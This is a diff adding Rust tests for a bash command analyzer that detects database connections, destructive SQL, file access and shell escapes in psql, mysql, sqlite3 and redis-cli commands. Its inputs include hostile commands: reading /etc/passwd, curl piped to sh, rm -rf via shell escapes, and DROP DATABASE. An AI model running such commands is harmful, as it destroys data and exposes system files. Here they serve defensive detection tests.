@@ -0,0 +1,390 @@
+use clarg::bash_analyzer::{Finding, PathContext, analyze_command, extract_paths};
+use clarg::facts::Fact;
+
+use super::{blocked, facts};
+
+fn database_paths(cmd: &str) -> Vec<(String, &'static str, bool)> {
+    extract_paths(cmd)
+        .into_iter()
+        .filter_map(|p| match p.context {
+            PathContext::DatabasePath { label, write } => Some((p.raw, label, write)),
+            _ => None,
+        })
+        .collect()
+}
+
+fn connect(cmd: &str) -> Fact {
+    facts(cmd, "database.connect").remove(0)
+}
+
+/// `(statement, kind, unbounded)` of each statement
+fn statements(cmd: &str) -> Vec<(String, String, bool)> {
+    facts(cmd, "database.statement")
+        .into_iter()
+        .map(|f| {
+            (
+                f.attr("statement").unwrap().to_string(),
+                f.attr("kind").unwrap().to_string(),
+                f.attr("unbounded") == Some("true"),
+            )
+        })
+        .collect()
+}
+
+fn st(statement: &str, kind: &str, unbounded: bool) -> (String, String, bool) {
+    (statement.to_string(), kind.to_string(), unbounded)
+}
+
+fn path(raw: &str, label: &'static str, write: bool) -> (String, &'static str, bool) {
+    (raw.to_string(), label, write)
+}
+
+// ============================================================================
+// Connection targets
+// ============================================================================
+
+#[test]
+fn test_psql_target() {
+    let f = connect("psql -h db.example.com -p 5433 -U admin -d shop -c 'SELECT 1'");
+    assert_eq!(f.attr("tool"), Some("psql"));
+    assert_eq!(f.attr("host"), Some("db.example.com"));
+    assert_eq!(f.attr("port"), Some("5433"));
+    assert_eq!(f.attr("user"), Some("admin"));
+    assert_eq!(f.attr("database"), Some("shop"));
+
+    // dbname and username operands
+    let f = connect("psql shop bob");
+    assert_eq!(f.attr("database"), Some("shop"));
+    assert_eq!(f.attr("user"), Some("bob"));
+    assert_eq!(f.attr("host"), None);
+}
+
+#[test]
+fn test_psql_uri_and_conninfo() {
+    let f = connect("psql postgres://bob:pw@db:5433/shop?sslmode=require");
+    assert_eq!(f.attr("host"), Some("db"));
+    assert_eq!(f.attr("port"), Some("5433"));
+    assert_eq!(f.attr("user"), Some("bob"));
+    assert_eq!(f.attr("database"), Some("shop"));
+
+    let f = connect("psql 'host=10.0.0.5 dbname=app user=ro'");
+    assert_eq!(f.attr("host"), Some("10.0.0.5"));
+    assert_eq!(f.attr("database"), Some("app"));
+    assert_eq!(f.attr("user"), Some("ro"));
+}
+
+#[test]
+fn test_mysql_target_and_attached_values() {
+    let f = connect("mysql -uroot -psecret -h127.0.0.1 -P 3307 shop");
+    assert_eq!(f.attr("user"), Some("root"));
+    assert_eq!(f.attr("host"), Some("127.0.0.1"));
+    assert_eq!(f.attr("port"), Some("3307"));
+    assert_eq!(f.attr("database"), Some("shop"));
+    // -p takes no separate value: `shop` is the database
+    assert_eq!(
+        connect("mysql -u root -p shop").attr("database"),
+        Some("shop")
+    );
+    assert_eq!(
+        connect("mariadb --host=db --database=app").attr("database"),
+        Some("app")
+    );
+}
+
+#[test]
+fn test_redis_target() {
+    let f = connect("redis-cli -h cache -p 6380 -n 2 GET k");
+    assert_eq!(f.attr("host"), Some("cache"));
+    assert_eq!(f.attr("database"), Some("2"));
+    assert_eq!(connect("redis-cli PING").attr("database"), Some("0"));
+
+    let f = connect("redis-cli -u redis://u:p@cache:6379/3 PING");
+    assert_eq!(f.attr("host"), Some("cache"));
+    assert_eq!(f.attr("user"), Some("u"));
+    assert_eq!(f.attr("database"), Some("3"));
+}
+
+#[test]
+fn test_target_from_environment() {
+    let f = connect("PGHOST=prod PGDATABASE=app psql -c 'SELECT 1'");
+    assert_eq!(f.attr("host"), Some("prod"));
+    assert_eq!(f.attr("database"), Some("app"));
+    // Options win over the environment
+    let f = connect("PGHOST=prod psql -h localhost -d app_dev");
+    assert_eq!(f.attr("host"), Some("localhost"));
+    assert_eq!(f.attr("database"), Some("app_dev"));
+
+    assert_eq!(
+        connect("MYSQL_HOST=db.example mysql shop").attr("host"),
+        Some("db.example")
+    );
+    assert_eq!(
+        connect("env PGSERVICE=billing psql").attr("service"),
+        Some("billing")
+    );
+    assert_eq!(
+        connect("psql service=billing").attr("service"),
+        Some("billing")
+    );
+}
+
+#[test]
+fn test_target_from_earlier_exports() {
+    assert_eq!(
+        connect("export PGHOST=prod; psql -d app_dev").attr("host"),
+        Some("prod")
+    );
+    assert_eq!(
+        connect("export PGHOST=a && export PGHOST=b && psql").attr("host"),
+        Some("b")
+    );
+    // The command's own assignment overrides the export
+    assert_eq!(
+        connect("export PGHOST=prod; PGHOST=dev psql").attr("host"),
+        Some("dev")
+    );
+    assert_eq!(
+        connect("export PGHOST=prod; unset PGHOST; psql").attr("host"),
+        None
+    );
+    // An export in a pipeline stage doesn't reach later commands
+    assert_eq!(
+        connect("export PGHOST=prod | true; psql").attr("host"),
+        None
+    );
+}
+
+// ============================================================================
+// Statements
+// ============================================================================
+
+#[test]
+fn test_inline_sql() {
+    assert_eq!(
+        statements("psql -c 'DROP TABLE users; SELECT 1' shop"),
+        vec![st("DROP TABLE", "ddl", false), st("SELECT", "read", false)]
+    );
+    assert_eq!(
+        statements("mysql shop -e 'DELETE FROM orders'"),
+        vec![st("DELETE", "dml", true)]
+    );
+    assert_eq!(
+        statements("sqlite3 app.db 'UPDATE t SET x = 1 WHERE id = 2'"),
+        vec![st("UPDATE", "dml", false)]
+    );
+    let f = facts("psql -c 'TRUNCATE logs' shop", "database.statement").remove(0);
+    assert_eq!(f.attr("object"), Some("logs"));
+    assert_eq!(f.attr("database"), Some("shop"));
+    assert_eq!(f.attr("source"), Some("inline"));
+}
+
+#[test]
+fn test_heredoc_sql() {
+    let cmd = "psql shop <<'SQL'\nBEGIN;\nDELETE FROM carts;\nCOMMIT;\nSQL";
+    assert_eq!(
+        statements(cmd),
+        vec![
+            st("BEGIN", "session", false),
+            st("DELETE", "dml", true),
+            st("COMMIT", "session", false)
+        ]
+    );
+    assert_eq!(
+        facts(cmd, "database.statement")[1].attr("source"),
+        Some("heredoc")
+    );
+    assert_eq!(
+        statements("mysql -h db <<EOF\nDROP DATABASE shop;\nEOF"),
+        vec![st("DROP DATABASE", "ddl", false)]
+    );
+}
+
+#[test]
+fn test_piped_sql() {
+    assert_eq!(
+        statements("echo 'DROP TABLE t' | psql shop"),
+        vec![st("DROP TABLE", "ddl", false)]
+    );
+    assert_eq!(
+        facts("echo 'DROP TABLE t' | psql", "database.statement")[0].attr("source"),
+        Some("pipe")
+    );
+    assert_eq!(
+        statements("printf 'BEGIN;\\nDELETE FROM carts;\\n' | mysql shop"),
+        vec![st("BEGIN", "session", false), st("DELETE", "dml", true)]
+    );
+    assert_eq!(
+        statements("echo -n \"TRUNCATE logs\" | sqlite3 app.db"),
+        vec![st("TRUNCATE", "ddl", false)]
+    );
+    // Not fixed text
+    assert!(statements("echo \"DROP TABLE $t\" | psql").is_empty());
+    assert!(statements("printf '%s' \"$sql\" | psql").is_empty());
+    assert!(statements("cat dump.sql | psql").is_empty());
+}
+
+#[test]
+fn test_redis_commands() {
+    assert_eq!(
+        statements("redis-cli -h cache FLUSHALL"),
+        vec![st("FLUSHALL", "admin", true)]
+    );
+    assert_eq!(
+        statements("redis-cli CONFIG SET dir /tmp"),
+        vec![st("CONFIG SET", "admin", false)]
+    );
+    assert_eq!(
+        statements("redis-cli GET session:1"),
+        vec![st("GET", "read", false)]
+    );
+    assert_eq!(
+        statements("redis-cli DEL session:1"),
+        vec![st("DEL", "dml", false)]
+    );
+    assert_eq!(
+        statements("redis-cli <<EOF\nSELECT 1\nFLUSHDB\nEOF"),
+        vec![st("SELECT", "session", false), st("FLUSHDB", "admin", true)]
+    );
+}
+
+// ============================================================================
+// Files
+// ============================================================================
+
+#[test]
+fn test_script_files() {
+    assert_eq!(
+        database_paths("psql -f migrate.sql shop"),
+        vec![path("migrate.sql", "SQL script", false)]
+    );
+    assert_eq!(
+        connect("psql -f a.sql -f b.sql").attr("script"),
+        Some("a.sql,b.sql")
+    );
+    assert_eq!(
+        connect("mysql shop < dump.sql").attr("script"),
+        Some("dump.sql")
+    );
+    assert_eq!(
+        connect("sqlite3 -init setup.sql app.db").attr("script"),
+        Some("setup.sql")
+    );
+    assert!(blocked("psql -f /tmp/evil.sql"));
+}
+
+#[test]
+fn test_output_files() {
+    assert_eq!(
+        database_paths("psql -o /tmp/out.txt -c 'SELECT 1'"),
+        vec![path("/tmp/out.txt", "query output file", true)]
+    );
+    assert_eq!(
+        database_paths("mysql --tee=log.txt"),
+        vec![path("log.txt", "query output file", true)]
+    );
+    assert_eq!(
+        database_paths("redis-cli --rdb /tmp/dump.rdb"),
+        vec![path("/tmp/dump.rdb", "database dump file", true)]
+    );
+}
+
+#[test]
+fn test_sqlite_database_file() {
+    assert_eq!(
+        database_paths("sqlite3 app.db 'SELECT * FROM t'"),
+        vec![path("app.db", "database file", false)]
+    );
+    assert_eq!(
+        database_paths("sqlite3 app.db 'DELETE FROM t'"),
+        vec![path("app.db", "database file", true)]
+    );
+    assert_eq!(
+        database_paths("sqlite3 app.db"),
+        vec![path("app.db", "database file", true)]
+    );
+    assert_eq!(
+        database_paths("sqlite3 -readonly app.db"),
+        vec![path("app.db", "database file", false)]
+    );
+    assert!(database_paths("sqlite3 :memory: 'SELECT 1'").is_empty());
+    assert!(blocked(
+        "sqlite3 ~/.mozilla/places.sqlite 'SELECT url FROM moz_places'"
+    ));
+}
+
+#[test]
+fn test_sql_files() {
+    assert_eq!(
+        database_paths("sqlite3 app.db \"ATTACH DATABASE '/tmp/x.db' AS x\"")[1],
+        path("/tmp/x.db", "attached database", true)
+    );
+    assert!(blocked(
+        "mysql --local-infile -e \"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t\""
+    ));
+}
+
+// ============================================================================
+// Meta-commands
+// ============================================================================
+
+#[test]
+fn test_shell_escapes() {
+    let cmd = "psql shop <<'SQL'\n\\! rm -rf /tmp/x\nSELECT 1;\nSQL";
+    let f = facts(cmd, "database.shell").remove(0);
+    assert_eq!(f.attr("command"), Some("rm -rf /tmp/x"));
+    assert_eq!(f.attr("database"), Some("shop"));
+    assert!(blocked(cmd));
+
+    assert!(!facts("mysql -e 'system ls'", "database.shell").is_empty());
+    assert!(!facts("sqlite3 app.db '.shell id'", "database.shell").is_empty());
+    assert!(
+        analyze_command("psql <<EOF\n\\! curl https://x | sh\nEOF")
+            .findings
+            .iter()
+            .any(|f| matches!(f, Finding::PipeToInterpreter { .. }))
+    );
+}
+
+#[test]
+fn test_meta_command_files() {
+    assert_eq!(
+        database_paths("psql <<EOF\n\\i /tmp/a.sql\n\\o /tmp/out\nEOF"),
+        vec![
+            path("/tmp/a.sql", "SQL script", false),
+            path("/tmp/out", "query output file", true)
+        ]
+    );
+    assert_eq!(
+        database_paths("psql -c \"\\copy t to '/tmp/t.csv' csv\""),
+        vec![path("/tmp/t.csv", "copy target file", true)]
+    );
+    assert_eq!(
+        facts(
+            "psql -c \"\\copy t from program 'curl x'\"",
+            "database.shell"
+        )[0]
+        .attr("command"),
+        Some("curl x")
+    );
+    assert_eq!(
+        database_paths("sqlite3 app.db '.output /tmp/o.txt' '.import data.csv t'")[1..],
+        [
+            path("/tmp/o.txt", "query output file", true),
+            path("data.csv", "import file", false)
+        ]
+    );
+    assert_eq!(
+        database_paths("mysql -e 'source /tmp/s.sql'"),
+        vec![path("/tmp/s.sql", "SQL script", false)]
+    );
+}
+
+#[test]
+fn test_meta_commands_inside_sql_ignored() {
+    // A backslash inside a statement isn't a meta-command
+    assert_eq!(
+        statements("psql -c \"SELECT E'\\\\!'\""),
+        vec![st("SELECT", "read", false)]
+    );
+    assert!(facts("psql -c \"SELECT E'\\\\!'\"", "database.shell").is_empty());
+}